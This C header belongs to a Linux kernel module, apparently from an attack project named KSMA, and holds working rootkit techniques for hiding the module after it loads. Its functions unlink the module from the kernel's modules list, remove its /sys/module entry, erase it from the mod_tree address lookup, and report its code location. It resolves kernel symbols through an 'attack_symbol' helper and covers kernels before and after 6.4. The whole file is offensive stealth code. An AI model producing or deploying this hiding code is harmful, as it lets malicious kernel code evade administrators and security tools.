/* SPDX-License-Identifier: GPL-2.0-only */
/* The ways of a module to leave the kernel's lists of modules. All run after the module's init is over. */
#ifndef KSMA_MODHIDE_H
#define KSMA_MODHIDE_H

#include "attack.h"

#include <linux/kobject.h>
#include <linux/mutex.h>
#include <linux/rbtree_latch.h>

/* Unlinks this module from `modules`. Returns what is needed to come back, or NULL. */
static inline struct list_head *modhide_list(void)
{
	struct mutex *mutex = (struct mutex *)attack_symbol("module_mutex");
	struct list_head *before;

	if (!mutex)
		return NULL;
	mutex_lock(mutex);
	before = THIS_MODULE->list.prev;
	list_del_rcu(&THIS_MODULE->list);
	mutex_unlock(mutex);
	return before;
}

static inline void modhide_list_undo(void)
{
	struct mutex *mutex = (struct mutex *)attack_symbol("module_mutex");
	struct list_head *modules = (struct list_head *)attack_symbol("modules");

	if (!mutex || !modules)
		return;
	mutex_lock(mutex);
	list_add_rcu(&THIS_MODULE->list, modules);
	mutex_unlock(mutex);
}

/* Leaves /sys/module: only its list of members, or the folder as well. */
static inline void modhide_kobject(bool folder)
{
	struct kobject *kobj = &THIS_MODULE->mkobj.kobj;

	if (folder) {
		kobject_del(kobj);
		return;
	}
	spin_lock(&kobj->kset->list_lock);
	list_del_init(&kobj->entry);
	spin_unlock(&kobj->kset->list_lock);
}

static inline void modhide_tree_erase(struct mod_tree_node *node, struct latch_tree_root *tree)
{
	static const struct latch_tree_ops unused;

	latch_tree_erase(&node->node, tree, &unused);
}

/* Leaves the tree by which the kernel finds a module from an address. Its head comes first in mod_tree on all kernels. */
static inline int modhide_tree(void)
{
	struct latch_tree_root *tree = (struct latch_tree_root *)attack_symbol("mod_tree");

	if (!tree)
		return -ENOENT;
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
	for (int i = 0; i < MOD_INIT_TEXT; i++)
		if (THIS_MODULE->mem[i].size)
			modhide_tree_erase(&THIS_MODULE->mem[i].mtn, tree);
#else
	modhide_tree_erase(&THIS_MODULE->core_layout.mtn, tree);
#endif
	return 0;
}

static inline void modhide_where(unsigned long *ret_base, unsigned long *ret_size)
{
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
	*ret_base = (unsigned long)THIS_MODULE->mem[MOD_TEXT].base;
	*ret_size = THIS_MODULE->mem[MOD_TEXT].size;
#else
	*ret_base = (unsigned long)THIS_MODULE->core_layout.base;
	*ret_size = THIS_MODULE->core_layout.text_size;
#endif
}

#endif
